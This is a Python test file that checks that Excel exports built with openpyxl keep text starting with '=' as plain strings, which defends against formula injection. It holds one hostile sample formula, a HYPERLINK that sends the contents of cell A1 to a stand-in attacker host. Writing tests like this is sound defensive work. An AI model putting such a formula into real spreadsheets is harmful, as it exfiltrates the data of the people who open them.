"""Exported text stays text (issue 17, formula injection): a note or an imported task text that
starts with "=" must not become a live formula in a coordinator's Excel."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from cchc.core.spreadsheets import append_row
from cchc.tracking.exports import TITLE_ROWS, Sheet, _workbook

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


def test_write_only_exports_keep_text_as_text():
    data = _workbook(
        Sheet("Nhiệm vụ", ["Nhiệm vụ"], ["Nội dung", "Tỷ lệ"], [[EVIL, 50], ["Bình thường", 100]], [40, 10])
    )
    sheet = load_workbook(io.BytesIO(data)).active
    first = min(1 + 1, TITLE_ROWS) + 2  # the heading line and a blank one, the header, then the first row
    assert sheet[f"A{first}"].value == EVIL and sheet[f"A{first}"].data_type == "s"
    assert sheet[f"B{first}"].value == 50 and sheet[f"A{first + 1}"].value == "Bình thường"


def test_normal_sheets_keep_text_as_text():
    book = Workbook()
    append_row(book.active, ["Ghi chú", EVIL, 3])
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet["B1"].value == EVIL and sheet["B1"].data_type == "s" and sheet["C1"].value == 3
